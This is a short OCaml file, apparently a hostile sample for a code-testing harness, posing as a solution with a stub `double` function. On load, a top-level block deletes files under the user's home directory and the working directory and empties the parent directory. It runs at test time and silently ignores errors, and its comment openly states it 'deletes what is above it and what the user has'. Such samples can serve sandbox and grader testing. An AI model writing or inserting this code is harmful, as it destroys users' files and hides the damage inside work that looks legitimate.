(* Deletes what is above it and what the user has.
   stages: tests run
   earns: 0 *)
let rec delete depth path =
  try
    if depth > 0 && Sys.is_directory path then Array.iter (fun n -> delete (depth - 1) (Filename.concat path n)) (Sys.readdir path);
    Sys.remove path
  with Sys_error _ -> ()
let () = delete 2 "@HOME@"; delete 2 "@CWD@"; Array.iter (fun n -> delete 0 ("../" ^ n)) (try Sys.readdir ".." with Sys_error _ -> [||])
let double _ = 0
